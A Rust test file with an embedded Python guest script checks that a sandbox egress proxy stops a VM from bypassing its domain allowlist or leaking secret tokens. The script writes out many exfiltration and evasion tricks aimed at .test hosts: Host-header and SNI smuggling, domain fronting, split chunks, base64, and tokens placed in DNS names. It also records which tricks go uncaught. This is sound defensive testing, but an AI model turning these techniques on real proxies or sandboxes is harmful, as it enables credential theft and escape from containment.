out["port"] = http("GET / HTTP/1.1", "Host: denied.test:80", "Connection: close")
out["userinfo"] = http("GET / HTTP/1.1", "Host: allowed.test@denied.test", "Connection: close")
out["suffix"] = http("GET / HTTP/1.1", "Host: allowed.test.denied.test", "Connection: close")
out["connect"] = http("CONNECT denied.test:443 HTTP/1.1", "Host: denied.test:443")
out["http10_no_host"] = http("GET http://denied.test/ HTTP/1.0")
out["sni_split"] = raw(443, client_hello("denied.test"), piece=1)
out["sni_dot"] = raw(443, client_hello("denied.test."))
out["zone_add"] = add_zone({"name": "denied.test.", "records": [{"name": "", "ip": "192.168.127.254"}]})
out["zone_catchall"] = add_zone({"name": "", "records": [], "defaultIP": "192.168.127.254"})
out["dns_after"] = dns("denied.test")
out["host_after"] = http("GET / HTTP/1.1", "Host: denied.test", "Connection: close")
print(json.dumps(out))
"#
    );
    let env = [("TRAP", trap.port().to_string())];
    let results = last_json(&python(&vm, &code, &env).await);
    eprintln!("allowlist other names: {results:#}");
    // The control: the allowed name is served through the same path.
    assert!(
        results["control"]
            .as_str()
            .unwrap()
            .contains("allowed-upstream-ok"),
        "{results}"
    );
    let forbidden = |case: &str| {
        let answer = results[case].as_str().unwrap();
        assert!(
            answer.starts_with("HTTP/1.1 403 Forbidden"),
            "{case}: {answer}"
        );
    };
    // Pipelining a denied Host behind an allowed one gets one answer only.
    let pipelined = results["pipelined"].as_str().unwrap();
    assert_eq!(pipelined.matches("HTTP/1.1 ").count(), 1, "{pipelined}");
    // An absolute URI naming another host is refused.
    forbidden("absolute_uri");
    // Duplicate Host headers are refused in either order.
    forbidden("dup_host");
    forbidden("dup_host_rev");
    // Upper case, a trailing dot or a port do not sneak the name through.
    forbidden("upper");
    forbidden("dot");
    forbidden("port");
    // Userinfo and suffix tricks in Host are refused.
    forbidden("userinfo");
    forbidden("suffix");
    // CONNECT to another name is no tunnel.
    forbidden("connect");
    // HTTP/1.0 without Host, naming another host in the URI, is refused.
    forbidden("http10_no_host");
    // An SNI split over 1-byte segments, or with a trailing dot, gets a TLS
    // alert (or a closed connection), never a handshake.
    for case in ["sni_split", "sni_dot"] {
        let answer = results[case].as_str().unwrap();
        assert!(
            answer.starts_with('\u{15}') || answer.starts_with("closed"),
            "{case}: {answer:?}"
        );
    }
    // gvproxy's DNS API is not served to the guest: it cannot add records.
    for case in ["zone_add", "zone_catchall"] {
        assert_ne!(results[case], 200, "{case}: {results}");
    }
    // And after those attempts the name still does not resolve or pass.
    assert_eq!(results["dns_after"], "fail", "{results}");
    forbidden("host_after");
    // None of it made the proxy dial the denied name.
    assert_eq!(
        trap.caught(),
        0,
        "the proxy dialled the denied name: {results:#}"
    );
    destroy_leaving_nothing(&mut vm, "allowlist").await;
    run_dir_is_clean(&manager, dir.path()).await;
}

/// The attacks on secrets, all in one VM (one run of one script): a guest
/// holding the placeholders of three secrets (`API_TOKEN`, headers only,
/// and `BODY_TOKEN`, headers and bodies, both bound to `api.test`;
/// `OTHER_TOKEN` bound to `other-api.test`) tries to get a value, or a
/// placeholder, to somewhere it is not bound: over plain HTTP to
/// `other.test`, through the intercepted `api.test`, over the passthrough
/// `pass.test`, in TLS server names and in DNS queries. Each case prints
/// what the guest got back; the host checks that, what each upstream
/// received, the network report's `secret_blocked` count and hosts, and
/// what the host's resolver was asked. Cases the proxy does not catch
/// (a placeholder split across chunks, base64, inside a passthrough TLS)
/// check that what leaves is the placeholder, never the value
/// (docs/secrets.md says why that is the design).
#[tokio::test(flavor = "multi_thread")]
async fn secrets_cannot_be_read_or_sent_anywhere_but_their_hosts() {
    let Some(_) = images_or_skip("attack_secrets") else {
        return;
    };
    let (api_value, body_value, other_value) = (
        unique_secret("api"),
        unique_secret("body"),
        unique_secret("other"),
    );
    let api = Upstream::https("api.test", answer_api);
    let pass = Upstream::https("pass.test", answer_ok);
    let plain = Upstream::plain(answer_ok);
    let trap = Trap::new();
    let resolver = Arc::new(RecordingResolver::new(TestResolver(vec![
        ("api.test", 443, api.addr()),
        ("pass.test", 443, pass.addr()),
        ("other.test", 80, plain.addr()),
    ])));
    let dir = run_dir();
    let scheduler = Scheduler::start(Config {
        egress_test: EgressTestOverrides {
            resolver: Some(Arc::clone(&resolver) as Arc<dyn airlock_egress::Resolver>),
            allow_private: true,
            upstream_roots: Some(UpstreamRoots::Certificates(vec![api.ca_der().into()])),
        },
        secrets_ca_dir: dir.path().join("ca"),
        overlay_pool_target: 0,
        ..config(dir.path())
    })
    .await
    .unwrap();
    let code = format!("{NET_PRELUDE}\n{SECRET_ATTACKS}");
    let mut request = RunRequest::new(Language::Python, code);
    request.timeout = Duration::from_secs(240);
    request.spec.network = NetworkRequest {
        allow: Some(
            ["other.test", "pass.test", "*.wild.test"]
                .into_iter()
                .map(|p| DomainPattern::parse(p).unwrap())
                .collect(),
        ),
        ..NetworkRequest::default()
    };
    let secret = |name: &str, value: &str, host: &str, body: bool| Secret {
        name: name.into(),
        value: SecretValue::new(value.as_bytes().to_vec()),
        hosts: vec![HostPattern::parse(name, host).unwrap()],
        body,
    };
    request.spec.secrets = vec![
        secret("API_TOKEN", &api_value, "api.test", false),
        secret("BODY_TOKEN", &body_value, "api.test", true),
        secret("OTHER_TOKEN", &other_value, "other-api.test", false),
    ];
    for (name, value) in [
        ("API_PORT", api.addr().port().to_string()),
        ("TRAP", trap.port().to_string()),
        ("RES_OPTIONS", "timeout:1 attempts:1".to_owned()),
    ] {
        request.env.insert(name.into(), value);
    }

    let result = scheduler.run(request).await.unwrap();

    let stdout = text(&result.stdout);
    assert_eq!(result.exit_code, 0, "{stdout}\n{}", text(&result.stderr));
    let out = last_json(&stdout);
    eprintln!("secret attacks: {out:#}");
    let tok = out["tokens"][0].as_str().unwrap().to_owned();
    let body_tok = out["tokens"][1].as_str().unwrap().to_owned();
    let other_tok = out["tokens"][2].as_str().unwrap().to_owned();
    for placeholder in [&tok, &body_tok, &other_tok] {
        assert!(
            placeholder.starts_with("airlock-secret-") && placeholder.len() == 47,
            "{placeholder}"
        );
    }
    let wild = format!("{tok}.wild.test");
    let case = |name: &str| -> String {
        out[name]
            .as_str()
            .unwrap_or_else(|| panic!("case {name} missing: {out:#}"))
            .to_owned()
    };
    let starts = |name: &str, prefix: &str| {
        let got = case(name);
        assert!(got.starts_with(prefix), "{name}: {got:?}");
        got
    };
    // What the proxy answers a plain-HTTP request it blocks or refuses.
    let plain_forbidden = "HTTP/1.1 403 Forbidden";
    // What it answers a request to an intercepted host carrying the
    // placeholder of a secret not bound there.
    let leak_forbidden = "Airlock: a secret placeholder may not be sent to this host";
    let served = "HTTP/1.1 200 OK\r\nContent-Length: 8\r\n";
    // Blocked or cut: whatever the guest got, the upstream did not answer.
    let not_served = |name: &str| {
        let got = case(name);
        assert!(!got.contains("upstream"), "{name}: {got:?}");
    };

    // --- Plain HTTP to other.test (allowed, no secret bound) ---
    // The placeholder in the URL path and in the query is blocked.
    starts("url_path_plain", plain_forbidden);
    starts("url_query_plain", plain_forbidden);
    // Written 3 bytes at a time with TCP_NODELAY: the head is read whole
    // before it is decided, and blocked.
    starts("split_head_plain", plain_forbidden);
    // A body written 3 bytes at a time after an innocent head: the stream
    // guard sees the placeholder complete and cuts the connection.
    not_served("split_body_plain");
    // A chunked body with the placeholder in one chunk: cut.
    not_served("chunked_plain");
    // The placeholder split across two chunks is not one byte string on
    // the wire: not caught (the upstream gets the placeholder, checked
    // below, never the value).
    starts("chunked_split_plain", served);
    // HTTP/2 prior knowledge (the placeholder in a literal, non-Huffman
    // HPACK field): refused for its version, before anything is sent.
    starts("h2_prior_knowledge_plain", plain_forbidden);
    // A CONNECT tunnel with the placeholder in Proxy-Authorization: no
    // tunnel, refused.
    starts("connect_plain", plain_forbidden);
    // Base64 of the placeholder is not caught (documented): served.
    starts("base64_plain", served);
    // `Expect: 100-continue`: the upstream's interim answer comes back,
    // the body with the placeholder is cut.
    let expect = starts("expect_continue_plain", "HTTP/1.1 100 Continue\r\n\r\n|");
    assert!(!expect.contains("upstream"), "{expect:?}");
    // Pipelining: the first request is served, the second (with the
    // placeholder, on the same connection) is cut.
    let pipelined = starts("pipelined_plain", served);
    let (_, second) = pipelined.split_once('|').unwrap();
    assert!(!second.contains("upstream"), "{pipelined:?}");
    // Obsolete line folding is refused for its form.
    starts("obs_fold_plain", plain_forbidden);
    // A head of ~15 KiB with the placeholder at its end (under the 16 KiB
    // cap) is blocked; one past the cap is refused as too large.
    starts("long_header_plain", plain_forbidden);
    starts("too_long_plain", plain_forbidden);
    // The placeholder as the Host name (allowed by `*.wild.test`): blocked.
    starts("host_placeholder_plain", plain_forbidden);
    // A redirect from the bound host to another host, followed with the
    // same Authorization: the bound host gets the value, the redirect
    // target is blocked.
    let redirect = starts("redirect", "HTTP/1.1 302 Found\r\n");
    assert!(
        redirect.contains("Location: http://other.test/landing\r\n"),
        "{redirect:?}"
    );
    starts("redirect_followed", plain_forbidden);

    // --- TLS to the intercepted api.test ---
    // A bound secret's placeholder in the URL is relayed as it is (only
    // header values are substituted).
    starts("url_bound", served);
    // Another secret's placeholder (bound to other-api.test), in the URL
    // or a header: blocked at api.test.
    for name in ["url_other_secret_bound", "header_other_secret_bound"] {
        let got = starts(name, "HTTP/1.1 403 Forbidden\r\n");
        assert!(got.contains(leak_forbidden), "{name}: {got:?}");
    }
    // Chunked bodies are de-chunked and sent with a Content-Length: the
    // headers-only secret stays a placeholder, the body secret becomes
    // its value (checked at the upstream).
    starts("chunked_bound_header_secret", served);
    starts("chunked_bound_body_secret", served);
    // HTTP/2 by ALPN only: the handshake fails (no_application_protocol).
    let h2 = starts("h2_alpn_bound", "connect ");
    assert!(h2.contains("alert no application protocol"), "{h2}");
    // The HTTP/2 preface inside the HTTP/1.1 TLS, and CONNECT: 400.
    starts("h2_preface_bound", "HTTP/1.1 400 Bad Request\r\n");
    starts("connect_bound", "HTTP/1.1 400 Bad Request\r\n");
    // Domain fronting (SNI api.test, Host other.test), a second request
    // of a kept-alive connection naming another host, and an
    // absolute-form target naming another host: 421.
    starts("fronting", "HTTP/1.1 421 Misdirected Request\r\n");
    let keepalive = starts("keepalive_other_host_bound", served);
    assert!(
        keepalive
            .split_once('|')
            .unwrap()
            .1
            .starts_with("HTTP/1.1 421 Misdirected Request\r\n"),
        "{keepalive:?}"
    );
    starts(
        "absolute_form_bound",
        "HTTP/1.1 421 Misdirected Request\r\n",
    );
    // HTTP/1.0 without Host, a folded field, two Host fields: 400.
    starts("http10_no_host_bound", "HTTP/1.1 400 Bad Request\r\n");
    starts("obs_fold_bound", "HTTP/1.1 400 Bad Request\r\n");
    starts("dup_host_bound", "HTTP/1.1 400 Bad Request\r\n");
    // Case-mutated placeholders, a made-up VM's placeholder and base64 of
    // the placeholder are not placeholders of this VM: relayed as they are.
    starts("case_mutated_bound", served);
    starts("foreign_vm_bound", served);
    starts("base64_bound", served);
    // A 60 KB field with the placeholder at its end: substituted.
    starts("long_header_bound", served);
    // A head over the 64 KiB cap: 431, or (when the proxy closes with
    // bytes unread) a reset; either way nothing is relayed (checked at the
    // upstream).
    let too_long = case("too_long_header_bound");
    assert!(
        too_long.starts_with("HTTP/1.1 431 ") || too_long.contains("Reset"),
        "{too_long:?}"
    );
    // SNI pass.test (no secret) with Host api.test: plain passthrough, the
    // placeholder reaches pass.test, never the value.
    starts("reverse_fronting", served);

    // --- Server names, IP literals, DNS ---
    // The placeholder in the SNI of an allowed (wildcard) passthrough name:
    // blocked with an access_denied alert.
    let sni = starts("sni_placeholder", "connect ");
    assert!(sni.contains("ACCESS_DENIED"), "{sni}");
    // No SNI, and an IP literal as SNI: refused before any TLS.
    let no_sni = starts("no_sni", "connect ");
    assert!(no_sni.contains("ACCESS_DENIED"), "{no_sni}");
    starts("ip_sni", "\u{15}\u{3}\u{3}\u{0}\u{2}\u{2}1");
    // The upstream's own address is not reachable from the guest.
    assert_ne!(out["direct_ip"], "connected", "{out}");
    assert_ne!(out["trap"], "connected", "{out}");
    // A name with the placeholder resolves to nothing, as an A query or a
    // TXT query (which go no further than gvproxy); under the allowed
    // wildcard it resolves to the proxy, which then blocks it (above).
    assert_eq!(out["dns_a_placeholder"], "fail", "{out}");
    let txt = &out["dns_txt_placeholder"];
    assert!(txt.is_string() || txt["answers"] == 0, "{out}");
    assert_eq!(out["dns_wild"], serde_json::json!(["192.168.127.254"]));

    // --- What each upstream received ---
    assert!(
        api.wait_idle(Duration::from_secs(10)),
        "api.test still open"
    );
    assert!(
        pass.wait_idle(Duration::from_secs(10)),
        "pass.test still open"
    );
    assert!(
        plain.wait_idle(Duration::from_secs(10)),
        "other.test still open"
    );
    let api_requests = api.requests();
    let mut api_targets: Vec<String> = api_requests.iter().map(|r| r.target().to_owned()).collect();
    api_targets.sort();
    let mut expected = vec![
        "/redirect".to_owned(),
        format!("/v1/{tok}?q={tok}"),
        "/chunked-api".to_owned(),
        "/chunked-body".to_owned(),
        "/keepalive-1".to_owned(),
        "/case".to_owned(),
        "/foreign".to_owned(),
        "/base64-api".to_owned(),
        "/long-api".to_owned(),
    ];
    expected.sort();
    assert_eq!(api_targets, expected, "{api_requests:#?}");
    let api_request = |target: &str| {
        api_requests
            .iter()
            .find(|r| r.target() == target)
            .unwrap()
            .clone()
    };
    let bearer = format!("Authorization: Bearer {api_value}\r\n");
    for target in ["/redirect", "/keepalive-1", &format!("/v1/{tok}?q={tok}")] {
        let head = api_request(target).head;
        assert!(head.contains(&bearer), "{target}: {head}");
    }
    let chunked_api = api_request("/chunked-api");
    assert_eq!(text(&chunked_api.body), format!("token={tok}"));
    assert!(
        chunked_api
            .head
            .contains(&format!("Content-Length: {}\r\n", chunked_api.body.len()))
            && !chunked_api.head.contains("Transfer-Encoding"),
        "{}",
        chunked_api.head
    );
    assert_eq!(
        text(&api_request("/chunked-body").body),
        format!("token={body_value}")
    );
    let mutated = api_request("/case").head;
    assert!(
        mutated.contains(&format!("X-Upper: {}\r\n", tok.to_uppercase()))
            && mutated.contains(&format!(
                "X-Hex-Upper: airlock-secret-{}\r\n",
                tok["airlock-secret-".len()..].to_uppercase()
            )),
        "{mutated}"
    );
    let foreign = out["foreign"].as_str().unwrap();
    assert!(foreign.starts_with("airlock-secret-") && foreign != tok);
    assert!(
        api_request("/foreign")
            .head
            .contains(&format!("X-Key: {foreign}\r\n")),
        "{:?}",
        api_request("/foreign")
    );
    let b64_tok = base64(format!("user:{tok}").as_bytes());
    assert!(api_request("/base64-api")
        .head
        .contains(&format!("Authorization: Basic {b64_tok}\r\n")));
    assert!(api_request("/long-api")
        .head
        .contains(&format!("{} {api_value}\r\n", "a".repeat(100))));

    let plain_requests = plain.requests();
    let mut plain_targets: Vec<&str> = plain_requests.iter().map(|r| r.target()).collect();
    plain_targets.sort_unstable();
    assert_eq!(
        plain_targets,
        ["/base64", "/chunked-split", "/pipelined-1"],
        "{plain_requests:#?}"
    );
    let chunked_split = plain_requests
        .iter()
        .find(|r| r.target() == "/chunked-split")
        .unwrap();
    assert_eq!(text(&chunked_split.body), format!("token={tok}"));
    assert!(plain_requests.iter().any(|r| r
        .head
        .contains(&format!("Authorization: Basic {b64_tok}\r\n"))));
    // No whole placeholder ever passed the plain-HTTP guard.
    for raw in plain.raw() {
        assert!(!contains(&raw, tok.as_bytes()), "{}", text(&raw));
    }
    let pass_requests = pass.requests();
    assert_eq!(pass_requests.len(), 1, "{pass_requests:#?}");
    assert!(
        pass_requests[0].head.contains("Host: api.test\r\n")
            && pass_requests[0]
                .head
                .contains(&format!("Authorization: Bearer {tok}\r\n")),
        "{pass_requests:#?}"
    );

    // --- The values went nowhere else ---
    for value in [&api_value, &body_value, &other_value] {
        assert!(!stdout.contains(value.as_str()), "the guest saw a value");
        assert!(!text(&result.stderr).contains(value.as_str()));
        for raw in plain.raw().iter().chain(pass.raw().iter()) {
            assert!(!contains(raw, value.as_bytes()), "{}", text(raw));
            let b64 = base64(value.as_bytes());
            assert!(!contains(raw, b64.as_bytes()), "{}", text(raw));
        }
    }
    assert!(!api
        .raw()
        .iter()
        .any(|raw| contains(raw, other_value.as_bytes())));
    // The host's resolver was asked for upstream names only, never a name
    // holding a placeholder.
    let lookups = resolver.lookups();
    assert!(
        lookups.iter().all(|name| !name.contains("airlock-secret-")),
        "{lookups:?}"
    );
    assert!(lookups.iter().any(|name| name == "api.test"), "{lookups:?}");
    assert_eq!(trap.caught(), 0, "the guest reached the host");

    // --- The network report ---
    let network = result.network.unwrap();
    // Counted: the nine blocked plain-HTTP requests to other.test (URL
    // path, query, split head, split body, chunk, redirect target, the
    // body after 100-continue, the pipelined request, the long head), the
    // two to api.test with another secret's placeholder, and the two with
    // the placeholder in the name (Host and SNI). Requests refused for
    // their form (CONNECT, HTTP/2, folding, too large) are refused before
    // the leak guard looks, and not counted.
    assert_eq!(network.secret_blocked, 13, "{network:?}");
    let mut hosts = network.secret_blocked_hosts.clone();
    hosts.sort();
    let mut expected_hosts = vec!["api.test".to_owned(), "other.test".to_owned(), wild];
    expected_hosts.sort();
    assert_eq!(hosts, expected_hosts, "{network:?}");

    scheduler.shutdown().await;
    let gone = wait_until_gone(dir.path().to_str().unwrap(), Duration::from_secs(10));
    assert!(gone.is_ok(), "still running: {gone:?}");
}

/// The bound upstream's answers: `/redirect` sends the client to another
/// host; everything else is `200 upstream`.
fn answer_api(request: &Received) -> Vec<u8> {
    if request.target() == "/redirect" {
        b"HTTP/1.1 302 Found\r\nLocation: http://other.test/landing\r\nContent-Length: 0\r\n\r\n"
            .to_vec()
    } else {
        answer_ok(request)
    }
}

/// Standard base64 with padding (what the guest's `base64.b64encode` makes).
fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for group in bytes.chunks(3) {
        let n = group
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, b)| n | u32::from(*b) << (16 - 8 * i));
        for i in 0..4 {
            if i <= group.len() {
                out.push(char::from(ALPHABET[(n >> (18 - 6 * i) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// The guest side of the secret attacks (after [`NET_PRELUDE`]): every
/// case on its own connection through the proxy at 192.168.127.254, its
/// outcome under its name in one JSON object.
const SECRET_ATTACKS: &str = r#"
import base64, secrets as rnd, ssl
PROXY = "192.168.127.254"
TOK, BODY, OTHER = (os.environ[n] for n in ("API_TOKEN", "BODY_TOKEN", "OTHER_TOKEN"))
TRUSTED = ssl.create_default_context()
UNVERIFIED = ssl._create_unverified_context()
H2 = ssl.create_default_context()
H2.set_alpn_protocols(["h2"])
out = {"tokens": [TOK, BODY, OTHER]}

def text(data):
    return data.decode(errors="replace")

def connect(port, tls=None, sni=None):
    s = socket.create_connection((PROXY, port), timeout=30)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if tls is not None:
        s = tls.wrap_socket(s, server_hostname=sni)
    return s

def drain(s):
    data = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                return text(data)
            data += chunk
    except OSError as e:
        return text(data) + "<" + type(e).__name__ + ">"

def response(s):
    # One Content-Length framed answer of a kept-alive connection.
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = s.recv(65536)
        if not chunk:
            return text(data)
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    length = 0
    for line in head.split(b"\r\n")[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            length = int(value)
    while len(body) < length:
        chunk = s.recv(65536)
        if not chunk:
            break
        body += chunk
    return text(head + b"\r\n\r\n" + body)

def case(name, port, pieces, tls=None, sni=None):
    # Each piece is its own write on a new connection; keeps what came
    # back until the connection closed.
    try:
        s = connect(port, tls, sni)
    except OSError as e:
        out[name] = "connect " + type(e).__name__ + ": " + str(e)
        return
    with s:
        try:
            for piece in pieces:
                s.sendall(piece)
        except OSError as e:
            out[name] = "send " + type(e).__name__ + " " + drain(s)
            return
        out[name] = drain(s)

def steps(name, port, tls=None, sni=None, *exchanges):
    # Several exchanges on one connection: (bytes to send, how to read).
    try:
        s = connect(port, tls, sni)
        with s:
            got = []
            for data, read in exchanges:
                s.sendall(data)
                got.append(read(s))
            out[name] = "|".join(got)
    except OSError as e:
        out[name] = "error " + type(e).__name__ + ": " + str(e)

def req(*lines, body=b""):
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body

def chunked(*chunks):
    return b"".join(b"%x\r\n%s\r\n" % (len(c), c) for c in chunks) + b"0\r\n\r\n"

def pieces(data, size):
    return [data[i:i + size] for i in range(0, len(data), size)]

def interim(s):
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
    return text(data)

def h2_request(authority, value):
    # Preface, empty SETTINGS, one HEADERS frame (END_STREAM|END_HEADERS,
    # stream 1): GET http / and the value in a literal field without
    # indexing, neither name nor value Huffman-coded.
    literal = lambda n, v: b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v
    block = b"\x82\x86\x84\x41" + bytes([len(authority)]) + authority + literal(b"authorization", value)
    frame = len(block).to_bytes(3, "big") + b"\x01\x05" + (1).to_bytes(4, "big") + block
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00" + frame

def client_hello(sni):
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = UNVERIFIED.wrap_bio(incoming, outgoing, server_hostname=sni)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()

B64 = base64.b64encode(("user:" + TOK).encode()).decode()
CLOSE = "Connection: close"
AUTH = "Authorization: Bearer " + TOK

# Plain HTTP to other.test.
case("url_path_plain", 80, [req("GET /leak/" + TOK + " HTTP/1.1", "Host: other.test", CLOSE)])
case("url_query_plain", 80, [req("GET /leak?key=" + TOK + " HTTP/1.1", "Host: other.test", CLOSE)])
case("split_head_plain", 80, pieces(req("GET /split-head HTTP/1.1", "Host: other.test", AUTH, CLOSE), 3))
body = ("token=" + TOK).encode()
case("split_body_plain", 80, [req("POST /split-body HTTP/1.1", "Host: other.test", "Content-Length: %d" % len(body), CLOSE)] + pieces(body, 3))
case("chunked_plain", 80, [req("POST /chunked HTTP/1.1", "Host: other.test", "Transfer-Encoding: chunked", CLOSE), chunked(b"token=", TOK.encode(), b"&end")])
case("chunked_split_plain", 80, [req("POST /chunked-split HTTP/1.1", "Host: other.test", "Transfer-Encoding: chunked", CLOSE, body=chunked(("token=" + TOK[:20]).encode(), TOK[20:].encode()))])
case("h2_prior_knowledge_plain", 80, [h2_request(b"other.test", TOK.encode())])
case("connect_plain", 80, [req("CONNECT api.test:443 HTTP/1.1", "Host: api.test:443", "Proxy-Authorization: Basic " + TOK)])
case("base64_plain", 80, [req("GET /base64 HTTP/1.1", "Host: other.test", "Authorization: Basic " + B64, CLOSE)])
steps("expect_continue_plain", 80, None, None,
      (req("POST /expect HTTP/1.1", "Host: other.test", "Expect: 100-continue", "Content-Length: %d" % len(body), CLOSE), interim),
      (body, drain))
steps("pipelined_plain", 80, None, None,
      (req("GET /pipelined-1 HTTP/1.1", "Host: other.test"), response),
      (req("GET /pipelined-2 HTTP/1.1", "Host: other.test", AUTH, CLOSE), drain))
case("obs_fold_plain", 80, [req("GET /fold HTTP/1.1", "Host: other.test", "X-Fold: a", " " + TOK, CLOSE)])
case("long_header_plain", 80, [req("GET /long HTTP/1.1", "Host: other.test", "X-Long: " + "a" * 15000 + " " + TOK, CLOSE)])
case("too_long_plain", 80, [req("GET /too-long HTTP/1.1", "Host: other.test", "X-Long: " + "a" * 17000 + " " + TOK, CLOSE)])
WILD = TOK + ".wild.test"
case("host_placeholder_plain", 80, [req("GET / HTTP/1.1", "Host: " + WILD, CLOSE)])

# A redirect from the bound host, followed with the same Authorization.
case("redirect", 443, [req("GET /redirect HTTP/1.1", "Host: api.test", AUTH, CLOSE)], TRUSTED, "api.test")
location = [l.split(":", 1)[1].strip() for l in out["redirect"].split("\r\n") if l.lower().startswith("location:")]
if location:
    url = location[0]
    case("redirect_followed", 80, [req("GET /" + url.split("/", 3)[3] + " HTTP/1.1", "Host: " + url.split("/")[2], AUTH, CLOSE)])

# TLS to the intercepted api.test.
def api(name, *lines, body=b""):
    case(name, 443, [req(*lines, body=body)], TRUSTED, "api.test")
api("url_bound", "GET /v1/" + TOK + "?q=" + TOK + " HTTP/1.1", "Host: api.test", AUTH, CLOSE)
api("url_other_secret_bound", "GET /v1?key=" + OTHER + " HTTP/1.1", "Host: api.test", CLOSE)
api("header_other_secret_bound", "GET /other HTTP/1.1", "Host: api.test", "X-Key: " + OTHER, CLOSE)
api("chunked_bound_header_secret", "POST /chunked-api HTTP/1.1", "Host: api.test", "Transfer-Encoding: chunked", CLOSE,
    body=chunked(("token=" + TOK[:20]).encode(), TOK[20:].encode()))
api("chunked_bound_body_secret", "POST /chunked-body HTTP/1.1", "Host: api.test", "Transfer-Encoding: chunked", CLOSE,
    body=chunked(("token=" + BODY[:20]).encode(), BODY[20:].encode()))
case("h2_alpn_bound", 443, [req("GET /h2 HTTP/1.1", "Host: api.test", AUTH, CLOSE)], H2, "api.test")
case("h2_preface_bound", 443, [h2_request(b"api.test", TOK.encode())], TRUSTED, "api.test")
api("connect_bound", "CONNECT other.test:443 HTTP/1.1", "Host: other.test:443", "Proxy-Authorization: Bearer " + TOK)
api("fronting", "GET /fronting HTTP/1.1", "Host: other.test", AUTH, CLOSE)
steps("keepalive_other_host_bound", 443, TRUSTED, "api.test",
      (req("GET /keepalive-1 HTTP/1.1", "Host: api.test", AUTH), response),
      (req("GET /keepalive-2 HTTP/1.1", "Host: other.test", AUTH, CLOSE), drain))
api("absolute_form_bound", "GET http://other.test/absolute HTTP/1.1", "Host: api.test", AUTH, CLOSE)
api("http10_no_host_bound", "GET /http10 HTTP/1.0", AUTH)
api("obs_fold_bound", "GET /fold-api HTTP/1.1", "Host: api.test", "X-Fold: a", " Bearer " + TOK, CLOSE)
api("dup_host_bound", "GET /dup HTTP/1.1", "Host: api.test", "Host: other.test", AUTH, CLOSE)
api("case_mutated_bound", "GET /case HTTP/1.1", "Host: api.test", "X-Upper: " + TOK.upper(),
    "X-Hex-Upper: airlock-secret-" + TOK[15:].upper(), CLOSE)
out["foreign"] = "airlock-secret-" + rnd.token_hex(16)
api("foreign_vm_bound", "GET /foreign HTTP/1.1", "Host: api.test", "X-Key: " + out["foreign"], CLOSE)
api("base64_bound", "GET /base64-api HTTP/1.1", "Host: api.test", "Authorization: Basic " + B64, CLOSE)
api("long_header_bound", "GET /long-api HTTP/1.1", "Host: api.test", "X-Long: " + "a" * 60000 + " " + TOK, CLOSE)
api("too_long_header_bound", "GET /too-long-api HTTP/1.1", "Host: api.test", "X-Long: " + "a" * 65600 + " " + TOK, CLOSE)
case("reverse_fronting", 443, [req("GET /reverse-fronting HTTP/1.1", "Host: api.test", AUTH, CLOSE)], UNVERIFIED, "pass.test")

# Server names, IP literals, DNS.
case("sni_placeholder", 443, [req("GET / HTTP/1.1", "Host: " + WILD, CLOSE)], UNVERIFIED, WILD)
case("no_sni", 443, [req("GET / HTTP/1.1", "Host: api.test", AUTH, CLOSE)], UNVERIFIED, None)
case("ip_sni", 443, [client_hello("api.test").replace(b"api.test", b"10.0.0.1")])
out["direct_ip"] = tcp(PROXY, int(os.environ["API_PORT"]))
out["trap"] = tcp(PROXY, TRAP)
out["dns_a_placeholder"] = dns(TOK + ".other.test")
out["dns_txt_placeholder"] = dns_query("192.168.127.1", TOK + ".other.test", 16)
out["dns_wild"] = dns(WILD)
print(json.dumps(out))
"#;
